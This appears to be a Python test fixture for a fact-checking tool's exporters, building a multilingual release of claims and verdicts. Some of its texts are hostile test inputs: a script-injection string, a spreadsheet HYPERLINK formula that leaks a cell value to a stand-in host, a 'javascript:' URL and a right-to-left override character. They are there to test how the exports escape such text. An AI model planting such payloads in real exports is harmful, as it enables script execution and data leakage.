"""A small release in three languages with every kind of text that exports stumble over; ids are made from names."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any, NamedTuple

import polars as pl

from factcheck import frames
from factcheck.exporters import ExportContext
from factcheck.models import Article, Claim, ClaimState, Status, Verdict, VerdictChange, article_id, claim_id, digest

NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)

TEXTS: dict[str, tuple[str, str]] = {
    "fa_plain": ("fa", "نرخ بیکاری در سال ۱۴۰۴ به ۷٫۲ درصد رسید و می‌توان گفت کم‌سابقه است."),
    "fa_copy": ("fa", "نرخ بیکاری در سال ۱۴۰۴ به ۷٫۲ درصد رسید و می‌توان گفت کم‌سابقه است."),
    "fa_latin_first": ("fa", "WHO اعلام کرد که ۳ میلیون نفر واکسن زده‌اند."),
    "ar_plain": ("ar", "ارتفع سعر الخبز بنسبة ١٥٪ خلال شهر واحد."),
    "ar_mixed": ("ar", "قال الوزير إن مشروع «NEOM 2030» سيوفر 380 ألف وظيفة."),
    "en_script": ("en", 'The bill says </script><script>alert(1)</script> & "nothing" else\u2028on two lines.'),
    "en_formula": ("en", '=HYPERLINK("https://example.net/?leak="&A1,"click")'),
    "en_opinion": ("en", "+1 for the best mayor this city ever had 🙂"),
    "en_contested": ("en", "-5 degrees was the coldest night, 'they' said."),
    "en_waiting": ("en", "'Quoted' opening of a claim about 12 bridges."),
    "en_withdrawn": ("en", "@office: this was no sentence at all, 7 times."),
    "ar_not_a_claim": ("ar", "\u202eهل هذا ادعاء؟"),
}

OUTLETS = {"fa": "خبرگزاری نمونه", "ar": "صحيفة المثال", "en": "The Example"}


class Release(NamedTuple):
    """The frames that a view is made of, and the context of the version."""

    articles: pl.DataFrame
    claims: pl.DataFrame
    verdicts: pl.DataFrame
    versions: pl.DataFrame
    context: ExportContext

    def changed(self, change: Callable[[pl.DataFrame], pl.DataFrame]) -> Release:
        """The release with each frame changed alike."""
        return Release(
            articles=change(self.articles),
            claims=change(self.claims),
            verdicts=change(self.verdicts),
            versions=change(self.versions),
            context=self.context,
        )


def id_of(name: str) -> str:
    """The claim id of a text of `TEXTS`."""
    return _claim(name, group=None).claim_id


def release(language: Any = "fa") -> Release:
    """Version 3 of a desk that works in `language`."""
    groups = {"fa_copy": "fa_plain"}
    claims = [_claim(name, group=groups.get(name)) for name in TEXTS]
    changes = [(1, _change(name)) for name in _VOTES]
    changes.append((3, _change("fa_plain", evidence=["https://example.org/statistics", "سالنامهٔ آماری، ص ۱۲"])))
    verdicts = frames.from_records(VerdictChange, [change for _, change in changes])
    return Release(
        articles=frames.from_records(Article, [_article(name) for name in TEXTS]),
        claims=frames.from_records(Claim, claims),
        verdicts=verdicts.with_columns(version=pl.Series([version for version, _ in changes], dtype=pl.Int64)),
        versions=pl.DataFrame(
            {"version": [1, 2, 3], "committed_at": [NOW.replace(day=day) for day in (10, 15, 20)]},
            schema={"version": pl.Int64, "committed_at": frames.UTC_MICROSECONDS},
        ),
        context=ExportContext(
            version=3,
            version_hash=digest("release"),
            committed_at=NOW,
            tag="2026-11-week-47",
            desk_name={"fa": "میز راستی‌آزمایی نمونه", "ar": "مكتب التحقق", "en": "Example Desk"}[language],
            desk_url="https://desk.example.org",
            language=language,
            licence="CC-BY-4.0",
            history=_became(),
            brought=verdicts.select("claim_id", version=3, shown=pl.col("status") == "decided").unique(
                "claim_id", maintain_order=True
            ),
        ),
    )


def _became() -> pl.DataFrame:
    """Changes of verdicts that readers could see, as `Dataset.history` tells them."""
    first = {"committed_at": NOW, "version": 3, "cause": "pull", "message": "", "published_in": None}
    changed = {
        "claim_id": id_of("fa_plain"), "before_version": 1, "before_status": "decided", "before_verdict": "disputed",
        "verdict": "verified", "status": "decided", "policy": "majority(min_votes=2,margin=1)",
        "rationales": ["آمار رسمی همین را می‌گوید."], "evidence": ["https://example.org/statistics"],
    }  # fmt: skip
    withdrawn = changed | {
        "claim_id": id_of("en_withdrawn"), "before_verdict": "verified", "verdict": None, "status": "withdrawn",
        "rationales": [], "evidence": [],
    }  # fmt: skip
    known: dict[str, pl.DataType] = {
        "committed_at": frames.UTC_MICROSECONDS, "version": pl.Int64(), "before_version": pl.Int64(),
        "rationales": pl.List(pl.String), "evidence": pl.List(pl.String),
    }  # fmt: skip
    rows = [first | changed, first | withdrawn | {"cause": "withdraw"}]
    return pl.DataFrame(rows, schema={name: known.get(name, pl.String()) for name in rows[0]})


_VOTES: dict[str, tuple[Status, Verdict | None, tuple[int, int, int, int], list[str], list[str]]] = {
    "fa_plain": (Status.DECIDED, Verdict.VERIFIED, (2, 1, 0, 0), ["آمار رسمی همین را می‌گوید."], []),
    "fa_latin_first": (
        Status.DECIDED,
        Verdict.DISPUTED,
        (0, 2, 0, 0),
        ["گزارش WHO عدد دیگری دارد.", "=SUM(A1:A9) در گزارش نیست"],
        ["https://example.net/report?a=1&b=2", "https://example.net/پیوست"],
    ),
    "ar_plain": (Status.DECIDED, Verdict.DISPUTED, (0, 2, 0, 0), ["السعر الرسمي لم يتغير."], ["https://example.com/a"]),
    "ar_mixed": (Status.DECIDED, Verdict.VERIFIED, (3, 0, 0, 0), [], ["http://example.com/b"]),
    "en_script": (Status.DECIDED, Verdict.VERIFIED, (2, 0, 0, 0), ["<b>Page 3</b> of the bill"], []),
    "en_formula": (Status.DECIDED, Verdict.DISPUTED, (0, 2, 0, 0), ["\tIt is a formula."], ["javascript:alert(1)"]),
    "en_opinion": (Status.DECIDED, Verdict.OPINION, (0, 0, 2, 0), ["Praise, not a fact."], []),
    "en_contested": (Status.CONTESTED, None, (1, 1, 0, 0), [], []),
    "en_waiting": (Status.SINGLE, None, (1, 0, 0, 0), [], []),
    "ar_not_a_claim": (Status.NOT_A_CLAIM, None, (0, 0, 0, 2), [], []),
}


def _article(name: str) -> Article:
    lang, quote = TEXTS[name]
    number = list(TEXTS).index(name)
    text = f"{quote} …"
    title = {"fa": "گزارش روز", "ar": "تقرير اليوم", "en": "News of the day"}[lang] + f" {number}"
    url = None if name == "ar_mixed" else f"https://news.example.com/{lang}/{number}"
    publisher = None if name == "en_script" else OUTLETS[lang] + (" ۲" if name == "fa_copy" else "")
    return Article(
        article_id=article_id(url=url, publisher=publisher, title=title, text=text),
        url=url,
        source=f"inbox/{name}.txt",
        publisher=publisher,
        source_chain=[publisher, "WHO"] if publisher and name == "fa_latin_first" else [],
        title=title,
        lang=lang,
        published_at=None if name == "ar_plain" else NOW.replace(day=1 + number % 8, microsecond=0),
        text=text,
        fetched_at=NOW,
    )


def _claim(name: str, *, group: str | None) -> Claim:
    lang, quote = TEXTS[name]
    article = _article(name).article_id
    own = claim_id(article_id=article, start=0, end=len(quote), quote=quote)
    claimants = {"fa_plain": "وزارت کار", "fa_latin_first": "WHO", "ar_mixed": "الوزير", "en_formula": 'J. "Ace" Doe'}
    return Claim(
        claim_id=own,
        article_id=article,
        group_id=id_of(group) if group else own,
        start=0,
        end=len(quote),
        quote=quote,
        lang=lang,
        claimant=claimants.get(name),
        check_worthiness=0.5 + list(TEXTS).index(name) / 32,
        state=ClaimState.WITHDRAWN if name == "en_withdrawn" else ClaimState.ACTIVE,
        extractor="rules-1",
    )


def _change(name: str, evidence: list[str] | None = None) -> VerdictChange:
    status, verdict, counts, rationales, urls = _VOTES[name]
    total = sum(counts)
    pairs = total * (total - 1)
    return VerdictChange(
        claim_id=id_of(name),
        status=status,
        verdict=verdict,
        n_votes=total,
        n_verified=counts[0],
        n_disputed=counts[1],
        n_opinion=counts[2],
        n_not_a_claim=counts[3],
        agreement=sum(count * (count - 1) for count in counts) / pairs if pairs else None,
        policy="majority(min_votes=2,margin=1)",
        origin="votes",
        rationales=rationales,
        evidence=urls if evidence is None else evidence,
        decided_at=NOW.replace(day=9, hour=8 + list(_VOTES).index(name)),
    )
